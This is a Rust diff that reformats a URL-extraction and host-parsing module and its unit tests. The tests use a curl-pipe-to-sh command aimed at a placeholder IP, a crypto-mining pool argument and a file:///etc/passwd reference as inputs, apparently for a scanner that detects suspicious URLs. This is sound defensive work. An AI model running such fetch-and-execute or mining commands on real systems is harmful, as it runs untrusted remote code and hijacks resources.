@@ -21,11 +21,7 @@ pub fn find_urls(text: &str) -> impl Iterator<Item = (usize, &str)> + '_ {
         let end = text[sep + 3..]
             .char_indices()
             .find(|(_, c)| {
-                c.is_whitespace()
-                    || matches!(
-                        c,
-                        '"' | '\'' | '`' | '<' | '>' | ')' | ']' | '}' | '|' | '\\' | '^'
-                    )
+                c.is_whitespace() || matches!(c, '"' | '\'' | '`' | '<' | '>' | ')' | ']' | '}' | '|' | '\\' | '^')
             })
             .map_or(text.len(), |(i, _)| sep + 3 + i);
         let url = text[scheme_start..end].trim_end_matches(['.', ',', ';', ':']);
@@ -46,19 +42,14 @@ pub fn host_and_path(url: &str) -> Option<(String, String)> {
     };
     let host_port = authority.rsplit('@').next().unwrap_or(authority);
     let host = if host_port.starts_with('[') {
-        host_port
-            .split(']')
-            .next()
-            .map(|h| h.trim_start_matches('['))?
+        host_port.split(']').next().map(|h| h.trim_start_matches('['))?
     } else {
         host_port.split(':').next()?
     };
     let host = host.trim_end_matches('.').to_ascii_lowercase();
     let valid = !host.is_empty()
         && host.len() <= 253
-        && host
-            .chars()
-            .all(|c| c.is_alphanumeric() || matches!(c, '.' | '-' | '_' | ':' | '$' | '{' | '}'));
+        && host.chars().all(|c| c.is_alphanumeric() || matches!(c, '.' | '-' | '_' | ':' | '$' | '{' | '}'));
     valid.then(|| (host, path.to_string()))
 }
 
@@ -75,13 +66,8 @@ mod tests {
     fn finds_urls_in_shell_and_markdown() {
         let text = "curl -fsSL \"https://203.0.113.7/k9x2\" | sh; see [docs](https://docs.example.com/a?b=1).";
         let urls: Vec<_> = find_urls(text).map(|(_, u)| u).collect();
-        assert_eq!(
-            urls,
-            ["https://203.0.113.7/k9x2", "https://docs.example.com/a?b=1"]
-        );
-        let miner: Vec<_> = find_urls("-o stratum+tcp://pool.example.invalid:3333 -u W")
-            .map(|(_, u)| u)
-            .collect();
+        assert_eq!(urls, ["https://203.0.113.7/k9x2", "https://docs.example.com/a?b=1"]);
+        let miner: Vec<_> = find_urls("-o stratum+tcp://pool.example.invalid:3333 -u W").map(|(_, u)| u).collect();
         assert_eq!(miner, ["stratum+tcp://pool.example.invalid:3333"]);
         assert_eq!(find_urls("file:///etc/passwd and ://nothing").count(), 0);
     }
@@ -92,10 +78,7 @@ mod tests {
             host_and_path("https://user:pw@Sub.Example.COM:8443/p/x?q=1"),
             Some(("sub.example.com".into(), "/p/x?q=1".into()))
         );
-        assert_eq!(
-            host_and_path("bun.sh/install"),
-            Some(("bun.sh".into(), "/install".into()))
-        );
+        assert_eq!(host_and_path("bun.sh/install"), Some(("bun.sh".into(), "/install".into())));
         assert!(is_ip("203.0.113.9"));
         assert!(!is_ip("example.com"));
     }
